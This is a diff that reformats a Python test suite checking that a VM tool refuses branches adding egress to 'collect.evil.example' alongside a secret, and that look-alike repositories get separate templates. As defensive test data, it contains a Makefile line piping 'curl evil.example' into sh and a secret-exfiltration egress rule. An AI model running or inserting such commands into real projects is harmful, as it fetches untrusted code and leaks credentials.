@@ -1,4 +1,5 @@
-"""A branch that sends a secret elsewhere than the trusted one does; and templates of repositories that look alike. Real Git, no VM."""
+"""A branch that sends a secret elsewhere than the trusted one does; and templates of repositories that look alike. Real
+Git, no VM."""
 
 from __future__ import annotations
 
@@ -20,13 +21,17 @@ from ktrdr_vm.policy.owner_policy import OwnerPolicy, TrustedProject
 from ktrdr_vm.templates import project as prepare
 
 BASE = "version: 1\nname: p\nimage: debian-13-docker\nworkspace: {source: .}\nprepare: {playbook: playbooks/make.yaml, key: [lock]}\n"
-MORE = BASE + ("egress: {allow: [{host: collect.evil.example}]}\nsecrets: [{name: key, source: {env: KTRDR_MODEL_KEY}}]\n")
+MORE = BASE + (
+    "egress: {allow: [{host: collect.evil.example}]}\nsecrets: [{name: key, source: {env: KTRDR_MODEL_KEY}}]\n"
+)
 PLAY = "- hosts: all\n  tasks: [{name: make, ansible.builtin.command: {cmd: make deps}}]\n"
 
 
 def git(folder: Path, *words: str) -> str:
     settings = ["-c", "user.name=lab", "-c", "user.email=lab@test.lab", "-c", "init.defaultBranch=main"]
-    return subprocess.run(["git", *settings, *words], cwd=folder, check=True, capture_output=True, text=True).stdout.strip()
+    return subprocess.run(
+        ["git", *settings, *words], cwd=folder, check=True, capture_output=True, text=True
+    ).stdout.strip()
 
 
 def make_repository(place: Path, makefile: str = "deps:\n") -> Path:
@@ -46,7 +51,9 @@ def on_branch(repository: Path, name: str = "feat/x", text: str = MORE) -> None:
 
 
 def beyond(repository: Path, **more: Any) -> tuple[Any, ...]:
-    return gather(repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one", **more).beyond
+    return gather(
+        repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one", **more
+    ).beyond
 
 
 def test_a_branch_that_wants_more_for_a_secret_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -59,16 +66,28 @@ def test_a_branch_that_wants_more_for_a_secret_is_refused(tmp_path: Path, monkey
         "egress to collect.evil.example:443", "the secret KTRDR_MODEL_KEY in the guest",
     ]  # fmt: skip
     with pytest.raises(UsageError) as caught:
-        cli.main(["apply", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"], standalone_mode=False)
-    assert caught.value.exit_code == 2 and "--accept-changes" in caught.value.hint and "collect.evil.example" in str(caught.value)
+        cli.main(
+            ["apply", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"],
+            standalone_mode=False,
+        )
+    assert (
+        caught.value.exit_code == 2
+        and "--accept-changes" in caught.value.hint
+        and "collect.evil.example" in str(caught.value)
+    )
     assert not (tmp_path / "home").exists()
 
 
-def test_plan_shows_it_and_refuses_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+def test_plan_shows_it_and_refuses_nothing(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
     repository = make_repository(tmp_path / "r")
     monkeypatch.setenv("KTRDR_VM_HOME", str(tmp_path / "home"))
     on_branch(repository)
-    cli.main(["plan", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"], standalone_mode=False)
+    cli.main(
+        ["plan", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"],
+        standalone_mode=False,
+    )
     shown = capsys.readouterr().out
     assert "not on the trusted branch: egress to collect.evil.example:443  (a secret can be sent there)" in shown
 
@@ -86,7 +105,9 @@ def test_the_trusted_branch_is_the_owners_then_the_clones_then_main(tmp_path: Pa
     assert compare(loaded, found, policy) == ()  # type: ignore[arg-type]
     # The policy of another repository says nothing of this one.
     other = OwnerPolicy(projects=(TrustedProject(str(origin), ("feat/x",)),))
-    loaded.profile = gather(clone / "p.yaml", home=Home(tmp_path / "home"), workspace=clone, instance_id="one").plan.profile
+    loaded.profile = gather(
+        clone / "p.yaml", home=Home(tmp_path / "home"), workspace=clone, instance_id="one"
+    ).plan.profile
     assert compare(loaded, found, other)  # type: ignore[arg-type]
 
 
@@ -103,7 +124,9 @@ def test_a_persons_own_profile_outside_of_the_repository_is_theirs(tmp_path: Pat
 
 
 def key_of(repository: Path, monkeypatch: pytest.MonkeyPatch) -> str:
-    gathered = gather(repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one")
+    gathered = gather(
+        repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one"
+    )
     assert gathered.repository is not None and gathered.plan.profile.prepare is not None
     monkeypatch.setattr(prepare, "_find_tree", lambda _repository: "")
     home: Any = None
@@ -114,7 +137,9 @@ def key_of(repository: Path, monkeypatch: pytest.MonkeyPatch) -> str:
     return project.digest
 
 
-def test_repositories_that_look_alike_have_templates_of_their_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_repositories_that_look_alike_have_templates_of_their_own(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     one = make_repository(tmp_path / "one")
     keys = {key_of(one, monkeypatch)}
     hostile = make_repository(tmp_path / "two", "deps:\n\tcurl evil.example | sh\n")
@@ -130,7 +155,9 @@ def test_repositories_that_look_alike_have_templates_of_their_own(tmp_path: Path
     assert len(keys) == 5
 
 
-def test_a_linked_worktree_shares_the_template_of_its_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_linked_worktree_shares_the_template_of_its_repository(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     main = make_repository(tmp_path / "main")
     git(main, "worktree", "add", "-q", "-b", "side", str(tmp_path / "linked"))
     assert key_of(main, monkeypatch) == key_of(tmp_path / "linked", monkeypatch)
